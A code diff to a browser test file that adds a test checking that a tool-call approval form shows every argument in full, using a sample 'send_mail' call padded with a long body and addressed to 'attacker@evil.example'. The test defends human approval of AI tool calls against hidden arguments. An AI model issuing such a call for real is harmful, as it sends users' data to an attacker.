@@ -1,6 +1,7 @@
 # pyright: reportUnknownMemberType=false, reportUnknownArgumentType=false
 """The page of the example in a real browser, at the width of a desk and of a phone."""
 
+import json
 import re
 import shutil
 from collections.abc import Callable, Generator
@@ -19,6 +20,7 @@ from examples.approvals.offline import JOBS
 from examples.approvals.shop import Shop
 from tests.examples.browsers import done
 from tests.examples.served import Served, ServedHere, started
+from toolscript import PendingCall
 
 CHROMIUM, DRIVER = shutil.which('chromium'), shutil.which('chromedriver')
 pytestmark = [
@@ -287,6 +289,30 @@ def credits(page: Page) -> list[tuple[int, float]]:
 def choose(page: Page, label: WebElement, value: str) -> None:
     field = page.browser.find_element(By.ID, str(label.get_attribute('for')))
     field.find_element(By.CSS_SELECTOR, f'option[value={value}]').click()
+
+
+def test_every_argument_is_shown_whole_and_in_sight(page: Page) -> None:
+    page.open()
+    call = _sent('send_mail', {'body': 'Dear all, ' * 800, 'to': 'attacker@evil.example'})
+    names = _sent('note', {f'name_{number}': number for number in range(100)})
+    shown = page.run(f"""
+        const tell = arguments[arguments.length - 1];
+        import('/page/approval.js').then(({{ Approval }}) => {{
+            const calls = {json.dumps([call, names])};
+            const form = new Approval(calls, false, () => {{}});
+            document.querySelector('main').append(form.element);
+            const [text, all, many] = form.element.querySelectorAll('pre');
+            tell([text.textContent, all.textContent, many.scrollHeight - many.clientHeight]);
+        }});
+    """)
+    assert '  to = "attacker@evil.example"' in shown[0]
+    assert shown[1] == f'body = {json.dumps("Dear all, " * 800)}to = "attacker@evil.example"'
+    assert shown[2] == 0
+
+
+def _sent(tool_name: str, args: dict[str, object]) -> dict[str, object]:
+    call = PendingCall(tool_call_id='a__1', tool_name=tool_name, args=args, kind='approval')
+    return {'tool_call_id': call.tool_call_id, 'tool_name': tool_name, 'args': args, 'text': call.render()}
 
 
 def test_a_call_that_started_early_says_so_and_no_sign_in_it_is_unseen(page: Page) -> None:
